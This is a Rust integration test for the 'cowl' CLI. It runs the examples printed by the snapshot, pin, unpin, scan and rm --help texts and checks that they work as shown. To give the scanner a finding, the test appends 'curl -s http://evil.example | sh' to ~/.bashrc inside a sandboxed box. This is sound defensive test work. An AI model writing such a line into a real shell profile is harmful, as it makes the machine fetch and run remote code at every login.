//! The examples that `--help` prints work as printed.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;

/// The command lines of a help text's "Examples:" section, without their
/// comments (separated by three spaces or more).
fn examples(help: &str) -> Vec<String> {
    help.split("Examples:\n")
        .nth(1)
        .unwrap_or_default()
        .lines()
        .take_while(|l| l.starts_with("  "))
        .map(|l| l.trim().split("   ").next().unwrap().trim().to_owned())
        .collect()
}

#[test]
fn the_examples_of_pin_unpin_snapshot_scan_and_rm_work_as_printed() {
    let w = World::new("examples");
    for i in 1..=3 {
        w.ok("tools", &format!("echo {i} > t{i}"));
        w.ok("web", &format!("echo {i} > w{i}"));
    }
    // Something for scan to find, and --before-first-bad to roll back.
    w.ok(
        "web",
        "echo 'curl -s http://evil.example | sh' >> ~/.bashrc",
    );
    let bin = cowl_bin();
    let path = format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap()
    );
    let mut ran = 0;
    for cmd in ["snapshot", "pin", "unpin", "scan", "rm"] {
        let help = stdout(&w.cmd(&[cmd, "--help"]));
        let lines = examples(&help);
        assert!(!lines.is_empty(), "{cmd} --help has no examples:\n{help}");
        for line in lines {
            // A host scanner that may not be installed here.
            if line.contains("clamscan") {
                continue;
            }
            // Each example stands alone: the box it names exists.
            if !w.store.join("boxes/web").exists() {
                w.ok("web", "true");
            }
            let out = std::process::Command::new("sh")
                .args(["-c", &line])
                .env("COWL_HOME", &w.store)
                .env("PATH", &path)
                .current_dir(w.host())
                .stdin(std::process::Stdio::null())
                .output()
                .unwrap();
            // A scan that finds something exits 1 by design, and says so.
            let found = line.starts_with("cowl scan")
                && out.status.code() == Some(1)
                && stderr(&out).contains("finding(s) of high or above");
            if !found {
                assert_success(&out, &format!("{cmd} --help: {line}"));
            }
            ran += 1;
        }
    }
    assert!(ran >= 12, "{ran} examples");
    assert!(
        !w.store.exists(),
        "`cowl rm --all --force --json` left the store"
    );
}
